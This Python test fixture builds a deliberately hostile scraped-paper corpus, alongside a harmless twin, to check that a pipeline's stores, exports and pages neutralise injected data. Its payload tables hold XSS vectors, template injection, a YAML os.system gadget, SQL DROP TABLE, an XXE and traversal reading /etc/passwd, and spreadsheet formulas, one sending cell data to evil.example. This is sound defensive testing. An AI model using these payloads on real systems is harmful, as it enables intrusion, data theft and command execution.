"""A corpus in which every field holds what scraped pages should not: markup, scripts, templates, controls, formulas.

The same corpus is made with harmless words in the same places, so that a test can tell what came from data: whatever
the hostile one has beyond the harmless one.
"""

from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from dataclasses import replace
from itertools import cycle
from pathlib import Path

from corpora import bitext, result

from align.bead import Finding
from align.repair import Repair
from corpus.bitext import Bitext
from corpus.store import open_store
from dedupe.link import Decision, Evidence, Link, Result
from dedupe.merge import merge
from ingest.record import Identifier, Record, Section, Source, Trial

ACT = "window.pwned=1"
"""What a browser that runs any of it would do."""
PAYLOADS: Mapping[str, str] = {
    "script": f"<script>{ACT}</script>",
    "image": f'"><img src=x onerror={ACT}>',
    "quote": f"'><svg onload={ACT}>",
    "attribute": f'" autofocus onfocus={ACT} style=color:red x="',
    "backtick": f"`onmouseover={ACT}`",
    "ends of elements": f"</textarea></title></option></template></noscript></script><script>{ACT}</script>",
    "comment": f"--><!--><script>{ACT}</script><!--",
    "CDATA": f"]]><script>{ACT}</script><![CDATA[",
    "style": "</style><style>*{display:none;background:url(//evil.example/x)}</style>",
    "CSS": f"red;background:url(javascript:{ACT});expression({ACT})",
    "frame": f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe><base href=//evil.example/>',
    "MathML": f"<math><mtext><table><mglyph><style><img src onerror={ACT}></style>",
    "htmx": '<b hx-post="/duplicates" hx-trigger="load" hx-on:load="window.pwned=1" data-key="a">press</b>',
    "template": "{{ 7 * 191 }}{% include 'base.html' %}{# {{ cycler.__init__.__globals__.os }} #}",
    "literal": "${" + ACT + "}%(title)s{title}{0}%s%n",
    "entities": f"&lt;script&gt;{ACT}&lt;/script&gt;&#60;img src=x onerror={ACT}&#62;&amp;lt;b&amp;gt;&nbsp;&copy",
    "percent": "%3Cscript%3E%00%2e%2e%2f%0d%0aX-Pwned:%201?q=1&page=2#top",
    "lines": f"one\u2028{ACT}\u2029two\x85three\x0bfour\x0cfive",
    "directions": "\u202egnp.exe\u2066\u2067 invoice \u200f\u061c",
    "NUL": "nul\0byte",
    "controls": "\x01\x02\x08\x1b[31m\x7f\x9b",
    "no characters": "\ufffe\uffff\U0010ffff\ufdd0",
    "nothing to see": "zero\u200b\u200d\u2060\ufeffwidth\u00ad",
    "marks": "Z" + "\u0351\u036b\u0343\u032a" * 50,
    "carriage return": "one\rtwo\r\nX-Pwned: 1\r\n\r\nthree",
    "unbroken": "W" * 5000,
    "unbroken Chinese": "长" * 3000,
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "formula after space": "  \t+cmd|' /C calc'!A0",
    "cells": '@SUM(1)";=1+1,\n=2+2\t-3',
    "RIS": "title\nER  - \nTY  - JOUR\nTI  - slipped in",
    "YAML": "---\n- !!python/object/apply:os.system [id]\n...\n# x: y",
    "Markdown": f"[x](javascript:{ACT}) ![x](//evil.example/x) | a | b | <b>",
    "SQL": "'; DROP TABLE acts; --",
    "search": '" OR title : ( NEAR * ^ - AND NOT',
    "JSON": '"}],"id":"other"}<!--<script>',
    "path": "../../../../../../etc/passwd",
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
}
URLS = (
    f"javascript:{ACT}",
    f"JaVaScRiPt&colon;{ACT}",
    f"java\tscript:{ACT}",
    f" \x01javascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    f'https://evil.example/" onmouseover="{ACT}',
    "https://example.org@evil.example/",
    "https://[",
    "http://example.org:port/",
)
HARMLESS_URLS = ("https://example.org/page/1", "ftp://example.org/page/1")
MEGABYTE = 2**20
LONG = 10_000
"""Characters of every field of a long corpus but the titles and abstracts of one record, which have a megabyte."""
LONG_NAME = 4000
"""Characters of a path; file systems allow 4,096."""
WITHOUT_END = "<b>words without end "
METHOD = "made"
PATH = 2
"""The number of the place in which the name of a file is said."""
TEXTS = range(10, 14)
"""Those of titles and abstracts."""

Say = Callable[[str, int], str]
"""Returns what to write, given the name of a payload and a number that tells its places apart."""


def hostile(name: str, number: int) -> str:
    """Return a payload: most begin with it, as some attacks must, and every third place is like no other."""
    return f"{number} {PAYLOADS[name]}" if number % 3 == 2 else PAYLOADS[name]


def harmless(name: str, number: int) -> str:
    """Return words that are given all elements that words can be: alike, or different, with numbers and stops."""
    return name if number % 4 == 1 else f"Words {number} on 12 mmHg in {name}."


def long(name: str, number: int) -> str:
    """Return words without end: a megabyte for the texts of one member, and a hundredth of that for the rest."""
    most = LONG_NAME if number % 100 == PATH else MEGABYTE if number in TEXTS else LONG
    return (f"{number} in {name} " + WITHOUT_END * (most // len(WITHOUT_END)))[:most]


def write_corpus(path: Path, say: Say = hostile, names: Collection[str] = PAYLOADS) -> None:
    """Make a corpus with something of everything that pages, reports and exports show, each field by ``say``."""
    urls = cycle(URLS if say is hostile else HARMLESS_URLS)
    groups = [(_papers(name, say, urls), _trial(name, say, urls)) for name in names]
    with open_store(path, write=True) as store:
        store.set_folder(str(path.parent / "pages"))
        for papers, trial in groups:
            for record in (*papers, trial):
                store.put_file(result(record.source.path, record))
        for name in names:
            store.put_file(result(f"failed/{name}/{say(name, 2)}", error=say(name, 3)))
        store.put_result(_result(names, groups, say), store.revision(), METHOD)
        for todo in list(store.unaligned(METHOD)):
            store.put_bitext(todo, _bitext(todo.canonical.record, say), METHOD)
        list(store.indexing())
        for (left, right), _ in groups:
            store.journal.decide([Decision(left.id, right.id, "same")], who=say("script", 4))


def _papers(name: str, say: Say, urls: Iterator[str]) -> tuple[Record, Record]:
    """Return two members of one paper that differ in every field."""
    return _paper(name, say, next(urls), 0), _paper(name, say, next(urls), 100)


def _paper(name: str, say: Say, url: str, first: int) -> Record:
    def text(number: int) -> str:
        return say(name, first + number)

    path = f"papers/{name}/{first}/{text(2)}"
    return Record(
        id=path,
        kind="paper",
        site=text(3),
        source=Source(path, "5a" * 32, text(4), member=text(5), url=url),
        ids=(Identifier("doi", text(6)), Identifier(text(7), text(8)), Identifier("nct", text(9), "reports")),
        title={"en": text(10), "zh": text(11)},
        abstract={"en": f"{text(12)} Second sentence {first}.", "zh": f"{text(13)}第二句{first}。"},
        authors=(text(14), text(15)),
        affiliations=(text(16),),
        journal=text(17),
        volume=text(18),
        issue=text(19),
        pages=text(20),
        published=text(21),
        keywords={"en": (text(22),), "zh": (text(23), text(24))},
        sections=(Section(text(25), text(26), text(27)),),
        found_by={text(28): text(29)},
        warnings=(text(30),),
    )


def _trial(name: str, say: Say, urls: Iterator[str]) -> Record:
    def text(number: int) -> str:
        return say(name, 200 + number)

    several = {
        field: (text(number), text(number + 1))
        for number, field in enumerate(("phases", "conditions", "arms", "interventions", "inclusion", "exclusion"))
    }
    single = {
        field: text(number)
        for number, field in enumerate(("status", "start", "completion", "updated", "min_age", "sponsor", "sex"), 20)
    }
    return Record(
        id=f"trials/{name}/{text(2)}",
        kind="trial",
        site=text(3),
        source=Source(f"trials/{name}/{text(2)}", url=next(urls)),
        ids=(Identifier("nct", text(4)), Identifier("org_study_id", text(5))),
        title={"en": text(6)},
        abstract={"en": text(7)},
        trial=Trial(enrollment=12, countries=(text(8),), **several, **single),
    )


def _result(names: Collection[str], groups: Sequence[tuple[tuple[Record, Record], Record]], say: Say) -> Result:
    """Return two members to each paper, each paper with its trial and an earlier version, and doubts between papers."""
    papers = [merge(papers, f"paper-{number:04}") for number, (papers, _) in enumerate(groups)]
    trials = [merge([trial], f"trial-{number:04}") for number, (_, trial) in enumerate(groups)]
    links, uncertain = [], []
    for number, (name, ((left, right), trial)) in enumerate(zip(names, groups, strict=True)):
        evidence = tuple(Evidence(field, say(name, 5), say(name, 8), 0.5, 1.5) for field in ("title", "journal"))
        other = groups[number - 1][0][0]
        links.append(Link(left.id, right.id, "same-as", "same", 0.99, evidence))
        links.append(Link(left.id, trial.id, "reports", "same", 1.0, evidence))
        links.append(Link(right.id, other.id, "version-of", "same", 0.9, evidence))
        uncertain.append(Link(*sorted((left.id, other.id)), "same-as", "uncertain", 0.5, evidence))
    warnings = tuple(say(name, 14) for name in names)
    return Result((*papers, *trials), tuple(links), tuple(uncertain), warnings)


def _bitext(record: Record, say: Say) -> Bitext:
    """Return sentence beside sentence, each pair with a finding, and the last English one alone."""
    finding = Finding("number", say("script", 17), ((0, 2),), ((0, 2),), 0.9)
    aligned = bitext(record.abstract.get("en", ""), record.abstract.get("zh", ""), confidence=0.4, checks=(finding,))
    return replace(aligned, repairs={"en": (Repair("space", 0, say("script", 20), say("image", 21)),)})
